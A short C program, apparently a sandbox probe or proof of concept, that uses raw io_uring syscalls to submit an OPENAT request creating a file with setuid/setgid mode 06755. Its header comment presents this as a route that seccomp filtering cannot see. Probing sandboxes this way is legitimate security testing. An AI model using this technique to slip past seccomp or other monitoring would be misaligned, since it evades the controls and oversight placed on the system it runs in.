/* io_uring OPENAT with a setuid mode: the route seccomp cannot see. */
#include <linux/io_uring.h>
#include <sys/syscall.h>
#include <sys/mman.h>
#include <unistd.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <errno.h>
int main(int argc, char **argv) {
    struct io_uring_params p; memset(&p, 0, sizeof p);
    int fd = syscall(__NR_io_uring_setup, 4, &p);
    if (fd < 0) { printf("setup refused %s\n", strerror(errno)); return 0; }
    size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(0, sqsz, PROT_READ|PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQ_RING);
    char *cq = mmap(0, cqsz, PROT_READ|PROT_WRITE, MAP_SHARED, fd, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ|PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQES);
    memset(&sqes[0], 0, sizeof sqes[0]);
    sqes[0].opcode = IORING_OP_OPENAT; sqes[0].fd = AT_FDCWD;
    sqes[0].addr = (unsigned long)argv[1]; sqes[0].len = 06755; sqes[0].open_flags = O_CREAT|O_WRONLY;
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail), *arr = (unsigned *)(sq + p.sq_off.array);
    arr[0] = 0; __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    int r = syscall(__NR_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
    struct io_uring_cqe *c = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    printf("enter %d res %d\n", r, c[0].res);
    return 0;
}
